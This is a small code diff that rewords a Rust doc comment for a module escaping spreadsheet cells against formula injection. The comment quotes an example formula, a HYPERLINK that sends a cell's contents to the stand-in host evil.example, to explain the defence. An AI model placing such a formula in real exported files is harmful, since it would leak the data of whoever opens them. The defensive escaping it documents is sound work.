@@ -1,6 +1,6 @@
 //! Cells for spreadsheet programs, which take a text that begins like a formula for one and run it.
 //!
-//! A name such as `=HYPERLINK("http://evil.example/?"&A1)` is a name to this service and a formula to Excel or LibreOffice.
+//! A name such as `=HYPERLINK("http://evil.example/?"&A1)` is a name to this service and a formula to the programs that open such files.
 //! In a file that is marked for them an apostrophe stands before each cell that begins so, and before each that begins
 //! with an apostrophe itself, so that taking one off gives back every text. The mark is a last column without values,
 //! [`COLUMN`]; `rollcall import` looks for it.
